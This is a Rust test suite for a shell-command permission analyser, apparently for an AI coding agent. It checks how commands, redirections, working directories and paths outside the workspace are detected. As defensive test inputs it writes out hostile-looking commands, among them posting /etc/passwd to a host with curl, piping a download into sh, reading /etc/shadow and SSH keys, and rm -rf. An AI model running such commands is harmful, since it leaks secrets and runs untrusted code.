use std::time::{Duration, Instant};

use proptest::prelude::*;
use serde_json::json;

use super::*;

fn of(command: &str) -> Vec<Need> {
    needs("shell", &json!({ "command": command }).to_string(), "/w")
}

fn commands(command: &str) -> Vec<String> {
    let all = of(command);
    let found = all.iter().find(|need| need.action == "shell");
    found.map(|need| need.resources.clone()).unwrap_or_default()
}

fn saved(command: &str) -> Vec<String> {
    of(command).into_iter().find(|need| need.action == "shell").expect("a command").save
}

fn is_opaque(command: &str) -> bool {
    let all = of(command);
    all.len() == 1 && all[0].is_opaque && all[0].resources == [command] && all[0].save.is_empty()
}

fn things(all: &[Need], action: &str) -> Vec<Vec<String>> {
    let own = all.iter().filter(|need| need.action == action);
    own.map(|need| need.resources.clone()).collect()
}

#[test]
fn every_command_of_a_script_is_a_resource() {
    for (command, expected) in [
        ("git  log\t-p", &["git log -p"][..]),
        ("a; b && c || d | e & f", &["a", "b", "c", "d", "e", "f"]),
        ("(cd x; rm y)", &["cd x", "rm y"]),
        ("{ a; }; ! b", &["a", "b"]),
        ("echo $(rm x) `rm y`", &["rm x", "rm y", "echo $(rm x) `rm y`"]),
        ("echo \"$(rm \"$(ls)\")\"", &["ls", "rm \"$(ls)\"", "echo \"$(rm \"$(ls)\")\""]),
        ("x=$(rm y)", &["rm y"]),
        ("a=(1 $(rm y))", &["rm y"]),
        ("echo ${x:-$(rm y)}", &["rm y", "echo ${x:-$(rm y)}"]),
        ("if a; then b; elif c; then d; else e; fi", &["a", "b", "c", "d", "e"]),
        ("for i in $(a); do b $i; done", &["a", "b $i"]),
        ("while a; do b; done; until c; do d; done", &["a", "b", "c", "d"]),
        ("case $x in a) b;; *) c;; esac", &["b", "c"]),
        ("f() { rm x; }; f", &["rm x", "f"]),
        ("function f { rm x; }", &["rm x"]),
        ("[[ -f $(a) ]] && b", &["a", "b"]),
        ("diff <(a) <(b)", &["a", "b", "diff <(…) <(…)"]),
        ("cat <<E\n$(rm x)\nE\nls", &["rm x", "cat", "ls"]),
        ("cat <<'E'\n$(rm x)\nE\nls", &["cat", "ls"]),
        ("cat <<< \"$(rm x)\"", &["rm x", "cat"]),
        ("a # b; c\nd", &["a", "d"]),
        ("coproc a", &["a"]),
        ("time a", &["a"]),
        ("a |& b", &["a", "b"]),
        ("", &[]),
        ("# nothing", &[]),
    ] {
        assert_eq!(commands(command), expected, "{command}");
    }
}

// The public report Codewhale#4674: a command ran elsewhere than it said.
#[test]
fn a_command_is_seen_from_the_directory_it_names() {
    let of = |command: &str, workdir: &str| {
        needs("shell", &json!({"command": command, "cwd": workdir}).to_string(), "/w")
    };
    for (command, workdir, commands, outside) in [
        ("cat a", "/x/y", &["cd /x/y", "cat a"][..], &["/x/y/*"][..]),
        ("ls", "sub", &["cd sub", "ls"], &[]),
        ("ls", "/w/a b/", &["cd 'a b'", "ls"], &[]),
        ("ls", "/w/", &["ls"], &[]),
        ("ls", ".", &["ls"], &[]),
        ("ls", "", &["ls"], &[]),
        ("cat ../a", "sub", &["cd sub", "cat ../a"], &[]),
        ("cat ../../e/a", "sub", &["cd sub", "cat ../../e/a"], &["/e/*"]),
        ("cat $PWD/../../e/a", "sub", &["cd sub", "cat $PWD/../../e/a"], &["/e/*"]),
        ("make", "../y", &["cd /y", "make"], &["/y/*"]),
    ] {
        let all = of(command, workdir);
        assert_eq!(things(&all, "shell").concat(), commands, "{command} {workdir}");
        assert_eq!(things(&all, "external_directory").concat(), outside, "{command} {workdir}");
    }
    let all = of("echo x > f", "sub");
    assert_eq!(things(&all, "edit").concat(), ["sub/f", "/w/sub/f"]);
}

// Finding: report 30-b2 (dirge-code/dirge#280).
#[test]
fn a_redirection_behind_cd_is_seen_from_each_place() {
    for (command, action, expected) in [
        ("cd config && echo x > prod.json", "edit", "config/prod.json"),
        ("cd keys; sort < a", "read", "keys/a"),
        ("pushd config; echo x >> prod.json", "edit", "config/prod.json"),
        ("(cd config; echo x > prod.json)", "edit", "config/prod.json"),
        ("cd a && cd b && echo x > ../c", "edit", "a/c"),
        ("command cd config; echo x > prod.json", "edit", "config/prod.json"),
        ("cd config; bash -c 'echo x > prod.json'", "edit", "config/prod.json"),
        ("cd config; echo x > $PWD/prod.json", "edit", "config/prod.json"),
        ("D=config; cd $D; echo x > prod.json", "edit", "config/prod.json"),
        ("f() { echo x > prod.json; }; cd config; f", "edit", "prod.json"),
        ("cd; echo x > .bashrc", "edit", "/home/agent/.bashrc"),
        ("cd ~/a; echo x > b", "edit", "/home/agent/a/b"),
    ] {
        let found = things(&of(command), action).concat();
        assert!(found.iter().any(|name| name == expected), "{command}: {found:?}");
    }
    for unknown in [
        "cd $x; echo y > f",
        "cd c*; echo y > f",
        "$x config; echo y > f",
        "CDPATH=/x; cd a; echo y > f",
        "f() { cd b; }; cd a; f; echo y > f",
        "while a; do cd ..; done; echo y > f",
        "env -C config sh -c 'echo y > f'",
        "eval \"$x\"; echo y > f",
    ] {
        let all = of(unknown);
        assert!(all.iter().any(|need| need.action == "edit" && need.is_opaque), "{unknown}");
    }
    for known in ["cd $x; echo y > /w/f", "for i in a b; do echo $i > f; done", "cd a; make"] {
        let all = of(known);
        assert!(!all.iter().any(|need| need.action == "edit" && need.is_opaque), "{known}");
    }
    let guises = of("cd /tmp && cat ../etc/passwd").into_iter().flat_map(|need| need.guises);
    assert!(guises.collect::<Vec<_>>().contains(&"/etc/*".to_owned()));
}

#[test]
fn a_commit_message_in_a_heredoc_is_no_command() {
    let command = "git commit -m \"$(cat <<'EOF'\nfix(a): it's b)\n\n`rm x`; rm y\nEOF\n)\"";
    let found = commands(command);
    assert_eq!((found.len(), found[0].as_str()), (2, "cat"), "{found:?}");
    assert!(found[1].starts_with("git commit -m "));
    assert_eq!(saved(command), ["cat *", "git commit *"]);
}

#[test]
fn quotes_hide_no_name() {
    for hidden in ["r\\m x", "'rm' x", "r\"m\" x", "\\rm x", "rm 'x'"] {
        assert_eq!(commands(hidden), ["rm x"], "{hidden}");
    }
    assert_eq!(commands("$x rm y"), ["$x rm y", "rm y", "y"].map(String::from)[..2]);
    for unsure in ["$x y", "{rm,x}", "$(which rm) x", "g*t x", "git $x"] {
        assert!(saved(unsure).is_empty(), "{unsure}");
    }
}

#[test]
fn a_command_in_another_is_found() {
    for (command, expected) in [
        ("sudo -u root rm x", &["sudo -u root rm x", "rm x"][..]),
        ("env -i X=1 rm x", &["env -i X=1 rm x", "rm x"]),
        ("env", &["env"]),
        ("timeout -s KILL 5 rm x", &["timeout -s KILL 5 rm x", "rm x"]),
        ("timeout --signal=KILL 5 rm x", &["timeout --signal=KILL 5 rm x", "rm x"]),
        ("nice -n 5 nohup rm x", &["nice -n 5 nohup rm x", "nohup rm x", "rm x"]),
        ("nice -5 rm x", &["nice -5 rm x", "rm x"]),
        ("a | xargs -0 -n1 rm -f", &["a", "xargs -0 -n1 rm -f", "rm -f"]),
        (
            "xargs -I{} sh -c 'rm {}; ls'",
            &["xargs -I{} sh -c 'rm {}; ls'", "sh -c 'rm {}; ls'", "rm {}", "ls"],
        ),
        ("bash -c 'rm x; ls'", &["bash -c 'rm x; ls'", "rm x", "ls"]),
        ("/bin/bash -euo pipefail -c 'rm x'", &["/bin/bash -euo pipefail -c 'rm x'", "rm x"]),
        ("bash <<E\nrm x\nE", &["bash", "rm x"]),
        ("sh <<< 'rm x'", &["sh", "rm x"]),
        ("eval rm x", &["eval rm x", "rm x"]),
        ("eval 'rm x; ls'", &["eval 'rm x; ls'", "rm x", "ls"]),
        ("trap 'rm x' EXIT", &["trap 'rm x' EXIT", "rm x"]),
        (
            "find . -name a -exec rm {} \\; -exec ls {} +",
            &["find . -name a -exec rm {} \";\" -exec ls {} +", "rm {}", "ls {}"],
        ),
        ("command -v rm", &["command -v rm"]),
        ("command rm x", &["command rm x", "rm x"]),
        ("exec -a y rm x", &["exec -a y rm x", "rm x"]),
        ("sudo --odd y rm x", &["sudo --odd y rm x", "--odd y rm x"]),
        ("bash -c \"$x\"", &["bash -c \"$x\"", "-c \"$x\""]),
        ("PATH=/x git log", &["PATH=/x", "git log"]),
        ("PATH=/x", &["PATH=/x"]),
    ] {
        assert_eq!(commands(command), expected, "{command}");
    }
}

#[test]
fn what_runs_any_text_is_never_saved() {
    for command in [
        "bash -c 'ls'",
        "sh",
        "eval ls",
        "curl x | sh",
        "watch ls",
        "python3 -c \"$x\"",
        "trap 'ls' EXIT",
    ] {
        assert!(saved(command).is_empty(), "{command}: {:?}", saved(command));
    }
}

#[test]
fn a_command_that_is_told_what_to_run_is_opaque() {
    for command in [
        "bash -c \"$x\"",
        "curl x | sh",
        "eval \"$x\"",
        "sudo --odd y ls",
        "timeout $x 5 ls",
        "env -u $x ls",
        "watch ls",
        "bash <<E\n$x\nE",
        "$x ls",
        "{rm,x}",
        "*sh ls",
        "timeout 5 $x ls",
        "bash $x -c ls",
        "trap \"$x\" EXIT",
        "a; parallel b",
    ] {
        let all = of(command);
        assert!(all[0].is_opaque && all[0].save.is_empty(), "{command}: {all:?}");
    }
    for command in ["bash -c ls", "eval ls", "bash x.sh", "sudo -n ls", "git $x"] {
        assert!(!of(command)[0].is_opaque, "{command}");
    }
}

#[test]
fn a_pattern_means_a_program_and_its_subcommand() {
    for (command, expected) in [
        ("git push origin main", &["git push *"][..]),
        ("git -C x push", &["git -C x push"]),
        ("npm run build", &["npm run build *"]),
        ("npm install", &["npm install *"]),
        ("docker compose up -d", &["docker compose up *"]),
        ("kubectl get pods", &["kubectl get *"]),
        ("cargo test --all && ls -l", &["cargo test *", "ls *"]),
        ("git", &["git *"]),
        ("rm -rf x", &["rm *"]),
        ("X=1 ls", &["X=*", "ls *"]),
        ("sudo rm x", &["sudo *", "rm *"]),
        ("find . -delete", &["find . -delete"]),
        ("find . -name '*.rs'", &[]),
        ("./run.sh a", &["./run.sh *"]),
    ] {
        assert_eq!(saved(command), expected, "{command}");
    }
}

#[test]
fn a_script_that_is_not_sure_is_one_whole_text() {
    for command in [
        "echo \"",
        "git log; rm x; echo ${",
        "a &&",
        "((x=1))",
        "( (a) )",
        "cat <<E\nno end",
        "cat <<E\nfoo\\\nE\nrm x '\nE\nrm y #'",
        "git log\rrm x",
        "git\u{a0}log",
        "a 99999999999>x",
        "echo @(a|b)",
        "select x in a; do b; done",
        "echo $[1]",
        "bash -c 'echo \"'",
        "x=${y@P}",
        "$((rm x) ; `",
    ] {
        assert!(is_opaque(command), "{command:?}: {:?}", of(command));
    }
    assert!(is_opaque(&"a;".repeat(40_000)), "too long");
    assert!(is_opaque(&"a;".repeat(600)), "too many");
    for nested in [("$(", ")"), ("( a; ", ")"), ("{ ", "}"), ("eval ", "")] {
        let command = format!("{}ls{}", nested.0.repeat(100), nested.1.repeat(100));
        assert!(is_opaque(&command), "{command}");
    }
}

#[test]
fn hostile_nesting_takes_no_time_and_no_stack() {
    let before = Instant::now();
    for text in [
        "$(",
        "${",
        "$((",
        "(",
        "((",
        "( ",
        "{ ",
        "[[ ",
        "! ",
        "if ",
        "case x in a) ",
        "<(",
        "a <<E\n",
        "\"$(",
        "=~ ( a ",
    ] {
        for close in ["", ")", "}", "\"", " )) "] {
            for count in [20, 200, 15_000] {
                let text = format!("{}{}", text.repeat(count), close.repeat(count));
                let _bounded = of(&text);
            }
        }
    }
    for count in [4, 60, 64] {
        let _bounded = of(&("(a;".repeat(count) + &")".repeat(count)));
        let _bounded = of(&("{ a;".repeat(count) + &"}".repeat(count)));
        let _bounded = of(&("if a; then ".repeat(count) + &"fi;".repeat(count)));
    }
    assert!(before.elapsed() < Duration::from_secs(120), "{:?}", before.elapsed());
}

#[test]
fn a_redirection_is_a_file_of_its_own() {
    let all = of("git log > src/a 2>&1 < .env 2>/dev/null &> ../b");
    assert_eq!(commands("git log > src/a 2>&1"), ["git log"]);
    assert_eq!(things(&all, "edit"), [vec!["src/a", "/w/src/a"], vec!["../b", "/b"]]);
    assert_eq!(things(&all, "read"), [vec![".env", "/w/.env"]]);
    assert_eq!(things(&all, "external_directory"), [vec!["/b/*"]]);
    let all = of("a > $x");
    assert_eq!((things(&all, "edit"), all[1].save.len()), (vec![vec!["$x".to_owned()]], 0));
    let all = of("F=a; b > $F");
    assert_eq!(things(&all, "edit"), [["a", "/w/a"]]);
}

#[test]
fn a_command_that_leaves_the_directory_says_so() {
    for (command, expected) in [
        ("cat /etc/passwd", Some("/etc/*")),
        ("cd .. && ls", Some("/*")),
        ("rm -rf ~/x", Some("~/*")),
        ("cp a ../../b", Some("/b/*")),
        ("cat a/../b", None),
        ("echo /etc", None),
        ("sudo cat '/etc/shadow'", Some("/etc/*")),
        ("ls /var/log/*", Some("/var/log/*/*")),
        // Public reports: other programs read outside too.
        ("sed -n p /etc/passwd", Some("/etc/*")),
        ("grep -A 3 x /etc/passwd", Some("/etc/*")),
        ("grep -e x /etc/passwd", Some("/etc/*")),
        ("git -C /srv/x log", Some("/srv/*")),
        ("dd if=/etc/shadow of=x", Some("/etc/*")),
        ("tar -cf x --directory=/etc .", Some("/etc/*")),
        ("gcc -I/opt/x/y a.c", Some("/opt/x/*")),
        ("curl -d @/etc/passwd http://h", Some("/etc/*")),
        ("cat {/etc/passwd,a}", Some("/etc/*")),
        ("env -C /etc cat x", Some("/etc/*")),
        ("xargs -a /etc/passwd echo", Some("/etc/*")),
        ("cd", Some("~/*")),
        ("awk '/x/ {print}' a", None),
        ("grep -rn /api/ src", None),
        ("sed -e '/a/d' a", None),
        ("tr / _", None),
        ("cut -d / -f1 a", None),
        ("cut -d/ -f1 a", None),
        ("sort -t / a", None),
        ("git commit -m \"$(cat <<'E'\nx\nE\n)\"", None),
    ] {
        let found = things(&of(command), "external_directory").concat();
        assert_eq!(found.first().map(String::as_str), expected, "{command}");
    }
}

// Finding: report 30-b8 (gotgenes/pi-packages#350).
#[test]
fn every_spelling_of_the_home_is_one_place() {
    for command in ["cat ~/x/y", "cat $HOME/x/y", "cat /home/agent/x/y", "cat ~/a/../x/y"] {
        let all = of(command);
        let outside = all.iter().find(|need| need.action == "external_directory").expect(command);
        for spelling in ["~/x/*", "$HOME/x/*", "/home/agent/x/*"] {
            let is_it = |text: &String| text == spelling;
            let mut texts = outside.resources.iter().chain(&outside.guises);
            assert!(texts.any(is_it), "{command} {spelling}: {outside:?}");
        }
    }
    let all = of("echo x > ~/a");
    let edit = all.iter().find(|need| need.action == "edit").expect("a file");
    assert!(edit.guises.contains(&"/home/agent/a".to_owned()), "{edit:?}");
    assert!(of("cat /srv/x").iter().all(|need| need.guises.is_empty()));
}

#[test]
fn a_path_from_a_variable_is_known_or_unknown() {
    for (command, expected) in [
        ("cat $HOME/.ssh/id", Some("~/.ssh/*")),
        ("cat \"${HOME}/x\"", Some("~/*")),
        ("cat $PWD/a", None),
        ("F=/etc/passwd; cat $F", Some("/etc/*")),
        ("F='a /etc/passwd'; cat $F", Some("/etc/*")),
        ("D=src; cat \"$D/a\"", None),
        ("for f in src/* a; do wc -l \"$f\"; done", None),
        ("for f in /etc/*; do cat $f; done", Some("/etc/*")),
        ("cat $(echo /etc/passwd)", Some("$(echo /etc/passwd)")),
        ("cat ${F%/*}", Some("${F%/*}")),
        ("read F; cat $F", Some("$F")),
        ("F=a; read F; cat $F", Some("$F")),
        ("F+=/etc; cat $F", Some("$F")),
        ("IFS=:; F=a:/etc/x; cat $F", Some("$F")),
        ("F=/etc/x; declare -n r=F; cat $r", Some("$r")),
        ("ls | xargs cat", Some("cat \u{2026}")),
        ("echo x > $HOME/y", Some("~/*")),
        ("echo x > $y", Some("$y")),
        ("head -n $((1+1)) a; exit $?", None),
        ("git log --since=\"$(date)\"", None),
    ] {
        let found = things(&of(command), "external_directory").concat();
        assert_eq!(found.first().map(String::as_str), expected, "{command}");
    }
}

#[test]
fn files_and_searches_have_their_needs() {
    let of = |tool: &str, arguments: serde_json::Value| needs(tool, &arguments.to_string(), "/w");
    let all = of("read", json!({"filePath": "a/.env"}));
    assert_eq!(things(&all, "read"), [["a/.env", "/w/a/.env"]]);
    assert_eq!(all[0].save, ["a/.env"]);
    let all = of("write", json!({"path": "/etc/x", "content": ""}));
    assert_eq!(things(&all, "edit"), [["/etc/x"]]);
    assert_eq!(things(&all, "external_directory"), [["/etc/*"]]);
    assert_eq!(all[0].save, ["*"]);
    let all = of("edit", json!({"path": "./b", "old": "", "new": ""}));
    assert_eq!(things(&all, "edit"), [["./b", "b", "/w/b"]]);
    let all = of("grep", json!({"pattern": "x", "path": "/etc"}));
    assert_eq!(
        (things(&all, "grep"), things(&all, "external_directory")),
        (vec![vec!["x".to_owned()]], vec![vec!["/etc/*".to_owned()]])
    );
    assert_eq!(of("glob", json!({"pattern": "**"}))[0].action, "glob");
    assert_eq!(of("skill", json!({"name": "x"}))[0].save, ["x"]);
    assert_eq!(
        things(&of("read", json!({"path": "/tool-output/tool_1"})), "external_directory").len(),
        0
    );
    let of_shell = |command: &str| of("shell", json!({ "command": command }));
    assert_eq!(things(&of_shell("tail /tool-output/tool_1"), "external_directory").len(), 0);
    let leaves = of_shell("cat /tool-output/../etc/passwd");
    assert_eq!(things(&leaves, "external_directory"), [["/etc/*"]]);
    assert_eq!(of("read", json!({"path": 1})), []);
    assert_eq!(of("nothing", json!({})), []);
}

#[test]
fn things_are_commands_or_names_of_one_path() {
    let all = of("a; b > c");
    let things = |at: usize| all[at].things().map(<[String]>::to_vec).collect::<Vec<_>>();
    assert_eq!(things(0), [["a"], ["b"]]);
    assert_eq!(things(1), [["c", "/w/c"]]);
}

fn a_command() -> impl Strategy<Value = String> {
    let simple = prop_oneof![
        "[a-c]{1,3}( [a-z./*?]{1,4}){0,2}",
        Just("git push origin".to_owned()),
        Just("X=1 sudo rm 'a b'".to_owned()),
        Just("cat ../x > \"y z\"".to_owned()),
        Just("bash -c 'ls; pwd'".to_owned()),
        Just("echo \"$(date) ${x:-`id`}\"".to_owned()),
        Just("cat <<< $x".to_owned()),
    ];
    simple.prop_recursive(3, 12, 2, |inner| {
        prop_oneof![
            (inner.clone(), "(;| &&| \\|\\|| \\|| &) ?", inner.clone())
                .prop_map(|(a, op, b)| format!("{a} {op} {b}").replace("  ", " ")),
            inner.clone().prop_map(|a| format!("( :; {a} )")),
            inner.clone().prop_map(|a| format!("{{ {a}; }}")),
            inner.clone().prop_map(|a| format!("echo $( {a} )")),
            (inner.clone(), inner).prop_map(|(a, b)| format!("if {a}; then {b}; fi")),
        ]
    })
}

fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        2 => "[a-z ]{1,6}",
        1 => any::<String>(),
        6 => prop::sample::select(vec![
            "$(", ")", "(", "((", "))", "`", "\"", "'", "\\", "${", "}", "{ ", ";", "|", "&&", "<<E\n", "\nE\n", "\n", "<", ">",
            ">&", "2>", "<(", "$'", "#", " # ", "case x in ", "a) ", ";;", "esac", "if ", "then ", "fi", "for i in ", "do ",
            "done", "[[ ", " ]]", " =~ ", "=", "x=", "bash -c ", "eval ", "sudo ", "xargs ", "find . -exec ", "\u{0}", "\r", "🦀", "~", "*", "..", "/",
        ]).prop_map(str::to_owned),
    ];
    prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

fn contains(all: &[Need], some: &[Need]) -> bool {
    some.iter().all(|need| {
        let same = |other: &&Need| other.action == need.action && other.is_opaque >= need.is_opaque;
        let is_in = |thing: &[String]| {
            all.iter().filter(same).any(|other| other.things().any(|found| found == thing))
        };
        need.things().all(is_in)
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]
    #[test]
    fn whatever_the_text_is_it_does_not_panic(text in hostile()) {
        let all = of(&text);
        for need in &all {
            prop_assert!(!need.is_opaque || need.save.is_empty());
            prop_assert!(need.save.iter().all(|pattern| pattern != "* *"));
        }
    }

    #[test]
    fn a_list_needs_all_that_its_commands_need(a in a_command(), b in a_command()) {
        let (first, second) = (of(&a), of(&b));
        prop_assert!(first.iter().chain(&second).all(|need| !need.is_opaque), "{a} / {b}");
        prop_assert!(!first.is_empty() && !second.is_empty());
        for joint in [" ; ", "\n", " && ", " | "] {
            let both = of(&format!("{a}{joint}{b}"));
            prop_assert!(contains(&both, &first) && contains(&both, &second), "{a}{joint}{b}: {both:?}");
        }
    }

    #[test]
    fn arguments_of_any_kind_are_read(tool in "(shell|read|write|edit|glob|grep|skill)", text in any::<String>(), path in any::<String>()) {
        let _read = needs(&tool, &text, "/w");
        let arguments = json!({"path": path, "pattern": path, "name": path, "command": path});
        let _read = needs(&tool, &arguments.to_string(), &text);
    }
}
